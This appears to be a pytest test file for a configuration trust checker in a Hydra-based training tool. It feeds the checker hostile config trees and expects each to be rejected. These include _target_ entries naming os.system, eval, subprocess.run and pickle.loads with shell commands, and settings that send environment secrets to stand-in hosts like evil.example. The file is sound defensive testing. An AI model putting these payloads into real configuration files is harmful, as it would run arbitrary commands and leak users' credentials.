"""Nothing that a foreign file puts below `hydra` runs code: every key × every way of writing it.

Each tree is merged into the composed configuration as Hydra merges a file, and judged; a few of each kind go through
the whole command, where a file that must not appear shows whether anything ran.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from functools import cache
from itertools import product
from pathlib import Path
from typing import Any

import pytest
import yaml
from omegaconf import OmegaConf
from omegaconf.errors import OmegaConfBaseException

from kamerton.cli import main
from kamerton.config.compose import compose_config, config_loader, plain, resolved
from kamerton.config.faults import check_overrides
from kamerton.config.foreign import Setting, foreign_settings, leaves
from kamerton.config.judged import Judged
from kamerton.config.secrets import unresolved
from kamerton.config.trust import check_trust

Tree = dict[str, Any]

TARGETS = (
    *("os.system", "builtins.eval", "torch.hub.load", "subprocess.run", "hydra.utils.get_method"),
    *("hydra_plugins.kamerton._process.run", "hydra_plugins.kamerton._results.replace"),
    *("hydra_plugins.kamerton._study.build", "hydra_plugins.kamerton._config.space_function"),
    *("hydra._internal.core_plugins.basic_launcher.os.system", "hydra.experimental.callbacks.Path"),
    *("optuna.samplers._cmaes.pickle.loads", "optuna.samplers.TPESampler.sample_relative", "optuna.pruners.os"),
    *("hydra_plugins.hydra_submitit_launcher.submitit_launcher.BaseSubmititLauncher", "my_package.Callback"),
)
PLACES = (
    *("callbacks.x", "callbacks.x.inner", "callbacks.x.list.0", "launcher", "launcher.inner", "sweeper"),
    *("sweeper.inner", "sweeper.sampler", "sweeper.sampler.inner", "sweeper.sampler.list.0", "sweeper.pruner"),
    *("sweeper.pruner.wrapped_pruner", "help", "job.config", "runtime", "env", "output"),
)
LOGGING = ("job_logging.handlers.x", "job_logging.formatters.x", "hydra_logging.filters.x", "job_logging.root")


def _node(target: str, harm: Path) -> Tree:
    return {"_target_": target, "command": f"touch {harm}", "_args_": [f"touch {harm}"]}


def _elsewhere(reference: str) -> Callable[[Tree], tuple[Any, Tree]]:
    """Put the node outside `hydra`, with a reference to it."""
    return lambda node: (reference, {"metrics": {"evil": node}, "debug_note": "evil"})


def _text(node: Tree) -> str:
    return json.dumps(node).replace('"', "")


WAYS: dict[str, Callable[[Tree], tuple[Any, Tree]]] = {
    "plain": lambda node: (node, {}),
    "list": lambda node: ([node], {}),
    "inner": lambda node: ({"deep": {"er": [node]}}, {}),
    "partial": lambda node: ({**node, "_partial_": True, "_recursive_": True}, {}),
    "interpolated": _elsewhere("${metrics.evil}"),
    "nested": _elsewhere("${metrics.${debug_note}}"),
    "selected": _elsewhere("${oc.select:metrics.evil}"),
    "created": _elsewhere("${oc.create:${metrics.evil}}"),
    "values": _elsewhere("${oc.dict.values:metrics}"),
    "decoded": lambda node: (f"${{oc.decode:'{_text(node)}'}}", {}),
    "decoded elsewhere": lambda node: ("${oc.decode:${debug_note}}", {"debug_note": _text(node)}),
    "name": lambda node: ({**node, "_target_": "${debug_note}"}, {"debug_note": node["_target_"]}),
    "pieces": lambda node: ({**node, "_target_": "${name}.${debug_note}"}, {"name": "os", "debug_note": "system"}),
    "not yet": lambda node: ("${hydra:runtime.evil}", {}),
}


def _put(place: str, value: Any) -> Tree:
    tree: Any = value
    for part in reversed(f"hydra.{place}".split(".")):
        tree = [tree] if part.isdecimal() else {part: tree}
    return dict(tree)


@cache
def _composed(*overrides: str) -> Any:
    config = compose_config(overrides, with_hydra=True)
    return OmegaConf.create(OmegaConf.to_container(config))  # without the types of its sections


def judge(tree: Tree, *overrides: str) -> list[str]:
    """The codes of the faults of a file with this content; of one that cannot be composed that."""
    kept = {"hydra", "name", "data", "paths", "logger", "metrics", "debug_note", *tree}
    try:
        config = OmegaConf.merge(OmegaConf.masked_copy(_composed(*overrides), list(kept)), tree)
        hydra = resolved(config.hydra)
        del config["hydra"]
        values, by_name = plain(config), unresolved(config)
    except OmegaConfBaseException:
        return ["config.compose"]
    settings = [Setting(path, value, "experiment/evil.yaml") for path, value in leaves(tree)]
    return [fault.code for fault in check_trust(Judged(values, hydra, settings, by_name))]


@pytest.mark.parametrize("way", WAYS)
def test_no_class_stands_below_hydra_but_those_of_the_list(way: str, tmp_path: Path) -> None:
    value, more = WAYS[way](_node("os.system", tmp_path / "harm"))
    assert [place for place in PLACES if not judge({**_put(place, value), **more}, "sweep=lr_batch")] == []


@pytest.mark.parametrize("target", TARGETS)
def test_no_function_and_no_stranger_is_on_the_list(target: str, tmp_path: Path) -> None:
    node = _node(target, tmp_path / "harm")
    places = ("callbacks.x", "launcher", "sweeper", "sweeper.sampler", "sweeper.pruner.wrapped_pruner")
    assert [place for place in places if "config.target" not in judge(_put(place, node), "sweep=lr_batch")] == []


@pytest.mark.parametrize("way", WAYS)
def test_no_factory_stands_in_a_section_of_logging(way: str, tmp_path: Path) -> None:
    node = _node("logging.FileHandler", tmp_path / "harm")
    for place, word in product(LOGGING, ("()", "class")):
        written = {word if key == "_target_" else key: value for key, value in node.items()}
        value, more = WAYS[way]({**written, "_target_": node["_target_"]} if way in ("name", "pieces") else written)
        assert judge({**_put(place, value), **more}, "hydra/job_logging=default"), (place, word)


@pytest.mark.parametrize("name", ["FileHandler", "handlers.RotatingFileHandler", "handlers.SocketHandler"])
def test_no_handler_of_a_file_or_a_socket_is_set(name: str) -> None:
    node = {"class": f"logging.{name}", "formatter": "simple"}
    assert judge(_put("job_logging.handlers.x", node), "hydra/job_logging=default") == ["config.target"]


WORDS = ["/home/me/.bashrc", "${paths.outputs}", "ext://antigravity"]
KEYS = (
    *("run.dir", "sweep.dir", "sweep.subdir", "output_subdir", "job.name", "job.env_set.PATH", "job.env_copy.0"),
    *("job.chdir", "job.config.override_dirname.kv_sep", "searchpath.0", "sweeper.storage", "launcher.setup.0"),
    *("sweeper.custom_search_space", "launcher.submitit_folder", "launcher.partition", "launcher.python"),
    *("launcher.additional_parameters.x", "job_logging.handlers.file.filename", "job_logging.handlers.file.mode"),
    *("runtime.output_dir", "sweeper.params.hydra/launcher", "sweeper.params.+hydra.callbacks.x", "callbacks", "help"),
    *("sweeper.params.model@hydra.callbacks.x", "sweeper", "launcher", "job_logging", "hydra_logging", "sweeper.a.b"),
)


@pytest.mark.parametrize("key", KEYS)
def test_a_file_sets_neither_output_folders_nor_the_environment(key: str) -> None:
    for word in WORDS:
        assert judge(_put(key, word), "sweep=lr_batch", "hydra/job_logging=default"), word


def _logger(name: str, **more: Any) -> Tree:
    return {"logger": {name: more}}


EVIL = "https://evil.example/v1"
OTHERS = "pytorch_lightning.loggers"
SENT: tuple[Tree, ...] = (
    {"model": {"base_url": EVIL}},
    {"model": {"base_url": "http://127.0.0.1:9/v1"}},
    {"model": {"base_url": "${debug_note}"}, "debug_note": EVIL},
    {"model": {"key": "SECRET"}},
    {"model": {"key": "${oc.decode:${debug_note}}"}, "debug_note": "SECRET"},
    {"engine": {"url": EVIL}},
    {"engine": {"key": "SECRET"}},
    {"lm_eval": {"include": "tasks"}},
    _logger("wandb", mode="online"),
    _logger("wandb", mode=None),
    _logger("wandb", entity="evil"),
    _logger("wandb", settings={"base_url": EVIL}),
    _logger("wandb", settings="${oc.create:{base_url:'https://evil.example'}}"),
    _logger("second", _target_=f"{OTHERS}.WandbLogger", project="p"),
    _logger("second", _target_=f"{OTHERS}.wandb.WandbLogger", mode="offline"),
    _logger("second", _target_=f"{OTHERS}.MLFlowLogger", tracking_uri=EVIL),
    _logger("second", _target_=f"{OTHERS}.TensorBoardLogger", save_dir="s3://evil/x"),
    {"callbacks": {"x": {"_target_": f"{OTHERS}.CometLogger", "api_key": "${oc.env:SECRET}"}}},
    {"callbacks": {"x": {"_target_": "pytorch_lightning.callbacks.ModelCheckpoint", "dirpath": "ftp://evil/x"}}},
    {
        "trainer": {"profiler": {"_target_": f"{OTHERS}.CSVLogger", "save_dir": "${paths.outputs}"}},
        "paths": {"outputs": "ftp://evil/${oc.env:SECRET}"},
    },
    {"model": {"suffix": "${oc.env:SECRET}"}},
    {"model": {"name": "${oc.${debug_note}:SECRET}"}, "debug_note": "env"},
    {"name": "${oc.env:SECRET}"},  # W&B's group
    {"logger": {"wandb": {"notes": "${debug_note}"}}, "debug_note": "${oc.env:SECRET}"},
    {"data": {"path": "pypi://${oc.env:SECRET}==1/x.csv#sha256=0"}},
)


@pytest.mark.parametrize("tree", SENT, ids=str)
def test_a_file_sends_neither_secrets_nor_data_to_its_own_address(tree: Tree, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "s3cr3t")
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    assert "config.trust" in judge(tree)


SPACE = "tag(log, interval(1e-5, 1e-3))"
HARMLESS: tuple[Tree, ...] = (
    {"hydra": {"sweeper": {"n_trials": 30, "params": {"optimizer.lr": SPACE, "adapter": "choice(lora, full)"}}}},
    {"hydra": {"sweeper": {"params": {"optimizer": {"lr": [1e-4, 1e-3]}}, "enqueue": [{"optimizer.lr": 1e-4}, "o/e"]}}},
    {"hydra": {"sweeper": {"sampler": {"_target_": "optuna.samplers.TPESampler", "n_startup_trials": 3}}}},
    {"hydra": {"sweeper": {"pruner": {"wrapped_pruner": {"_target_": "optuna.pruners.MedianPruner"}}}}},
    {"hydra": {"launcher": {"gpus": 2}, "mode": "MULTIRUN", "verbose": True}},
    {"hydra": {"callbacks": {"log": {"_target_": "hydra.experimental.callbacks.LogJobReturnCallback"}}}},
    {"hydra": {"job_logging": {"root": {"level": "DEBUG"}, "formatters": {"simple": {"format": "%(message)s"}}}}},
    {"hydra": {"job_logging": {"handlers": {"console": {"class": "logging.StreamHandler"}}}}},
    {"callbacks": {"early_stopping": {"patience": 5}}, "data": {"path": "${oc.env:HOME}/x.jsonl"}},
    {"logger": {"wandb": {"project": "mine", "tags": ["a"], "notes": "see https://example.org", "mode": "disabled"}}},
    {"model": {"base_url": None, "key": "OPENAI_API_KEY", "price": {"input": 1.0}}},
)


@pytest.mark.parametrize("tree", HARMLESS, ids=str)
def test_harmless_settings_are_allowed(tree: Tree) -> None:
    assert judge(tree, "sweep=lr_batch", "hydra/job_logging=default") == []


@pytest.mark.parametrize("choice", ["basic", "process", "submitit_local", "submitit_slurm"])
def test_any_launcher_may_be_chosen(choice: str) -> None:
    assert judge({}, f"hydra/launcher={choice}") == []


@pytest.mark.slow
@pytest.mark.parametrize("index", range(8))
def test_everything_that_comes_with_kamerton_and_hydra_may_be_chosen(index: int, tmp_path: Path) -> None:
    """Choose another option of every group each time, typed or by a foreign file."""
    loader, chosen = config_loader(), {}
    hydra = ("launcher", "sweeper/sampler", "sweeper/pruner", "job_logging", "hydra_logging")
    groups = ("model", "adapter", "optimizer", "scheduler", "trainer", "logger", *(f"hydra/{name}" for name in hydra))
    for group in groups:
        options = loader.get_group_options(group)
        chosen[group] = options[index % len(options)]
    named = [{f"override /{group}": option} for group, option in chosen.items()]
    (tmp_path / "experiment").mkdir()
    content = {"defaults": [{"override /hydra/sweeper": "optuna"}, *named]}
    (tmp_path / "experiment" / "own.yaml").write_text(f"# @package _global_\n{yaml.dump(content)}")
    typed = ["hydra/sweeper=optuna", *(f"{group}={option}" for group, option in chosen.items())]
    for words, folder in ((typed, None), (["experiment=own"], str(tmp_path))):
        faults = check_overrides([*words, "model.name=x", "data=jsonl", "data.path=x.jsonl"], folder)
        result = {fault.column for fault in faults if fault.code in ("config.trust", "config.target")}
        assert result <= ({"hydra.sweeper.sampler"} if chosen["hydra/sweeper/sampler"] == "cmaes" and folder else set())


def _files(node: Tree) -> Iterator[tuple[str, dict[str, Any], list[str]]]:
    """Return files by name for each way to put a node below `hydra`, and the overrides that are typed."""
    chosen = ["experiment=evil"]
    yield "package", {"experiment/evil.yaml": {"# @package hydra.callbacks": {"x": node}}}, chosen
    group = {"defaults": [{"override /hydra/launcher": "evil"}]}
    yield "group", {"experiment/evil.yaml": group, "hydra/launcher/evil.yaml": node}, chosen
    moved = {"defaults": [{"/metrics@hydra.callbacks.x": "evil"}]}
    yield "moved", {"experiment/evil.yaml": moved, "metrics/evil.yaml": node}, chosen
    yield "shadow", {"hydra/launcher/basic.yaml": {"_target_": node["_target_"]}}, []
    yield "typed choice", {"hydra/sweeper/evil.yaml": node}, ["hydra/sweeper=evil"]
    ours = {"defaults": [{"/trainer@hydra.callbacks.x": "default"}]}
    yield "ours", {"experiment/evil.yaml": ours}, chosen
    yield "space", {"experiment/evil.yaml": _put("sweeper.params.+hydra.callbacks.x", _text(node))}, [*chosen, "-m"]


def test_no_file_can_run_code(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    harm = tmp_path / "harm"
    node = {"_target_": "hydra_plugins.kamerton._process.run", "command": ["touch", str(harm)], "environment": {}}
    for way, files, typed in _files(node):
        folder = tmp_path / way
        for name, content in files.items():
            (package, inner), *_ = content.items()
            header, body = (package, inner) if package.startswith("#") else ("# @package _global_", content)
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(f"{'' if name.startswith(('hydra', 'metrics')) else header}\n{yaml.dump(body)}")
        assert main(["train", "--config-dir", str(folder), *typed, "model=tiny"]) == 2, way
        assert "config.t" in capsys.readouterr().err, way
    assert not harm.exists()


def test_files_of_a_folder_that_is_searched_are_foreign(tmp_path: Path) -> None:
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "evil.yaml").write_text("# @package _global_\nhydra:\n  run:\n    dir: /evil\n")
    typed = ["experiment=evil", f"hydra.searchpath=[file://{tmp_path}]"]
    expected = [Setting(("hydra", "run", "dir"), "/evil", "experiment/evil.yaml")]
    assert foreign_settings(typed, config_loader(), "train") == expected
    assert foreign_settings(["experiment=trec_full", "hydra/launcher=process"], config_loader(), "train") == []


PACKAGES = ("hydra.job", "hydra[job]", "[hydra][job]", "[hydra].job", "_global_.hydra.job", "_global_.hydra[job]")


WRITTEN = [*product(("header", "defaults", "header of an option"), PACKAGES), ("dictionary", "")]


@pytest.mark.parametrize(("way", "package"), WRITTEN)
def test_a_package_is_read_as_hydra_reads_it(way: str, package: str, tmp_path: Path) -> None:
    content = "env_set: {PATH: /evil}\n"
    (tmp_path / "experiment").mkdir()
    (tmp_path / "evil").mkdir()
    first, option = f"# @package {package}\n{content}", content
    if way == "defaults":
        first = f"# @package _global_\ndefaults: ['/evil@{package}: job']\n"
    elif way == "header of an option":
        first, option = "# @package _global_\ndefaults: ['/evil: job']\n", f"# @package {package}\n{content}"
    elif way == "dictionary":
        first = "# @package _global_\nhydra: {job: {env_set: {PATH: /evil}}}\n"
    (tmp_path / "experiment" / "mine.yaml").write_text(first)
    (tmp_path / "evil" / "job.yaml").write_text(option)
    faults = check_overrides(["experiment=mine"], str(tmp_path))
    assert [fault.code for fault in faults if fault.severity == "error"] != []


FOLDERS = """# @package _global_
callbacks: {x: {_target_: pytorch_lightning.callbacks.ModelCheckpoint, dirpath: PLACE, filename: x}}
trainer: {profiler: {_target_: pytorch_lightning.profilers.SimpleProfiler, dirpath: PLACE, filename: x}}
logger: {tb: {_target_: pytorch_lightning.loggers.CSVLogger, save_dir: PLACE, name: x}}
"""


@pytest.mark.parametrize(
    "place", ["/tmp/elsewhere", "~/elsewhere", "../elsewhere", "a/../../elsewhere", "s3://elsewhere"]
)
def test_a_file_can_only_write_below_the_run(place: str, tmp_path: Path) -> None:
    (tmp_path / "experiment").mkdir()
    (tmp_path / "experiment" / "mine.yaml").write_text(FOLDERS.replace("PLACE", place))
    faults = [fault for fault in check_overrides(["experiment=mine"], str(tmp_path)) if fault.severity == "error"]
    keys = {"callbacks.x.dirpath", "trainer.profiler.dirpath", "logger.tb.save_dir"}
    assert {fault.column for fault in faults} == keys
    assert {(fault.code, fault.file) for fault in faults} == {("config.trust", "experiment/mine.yaml")}
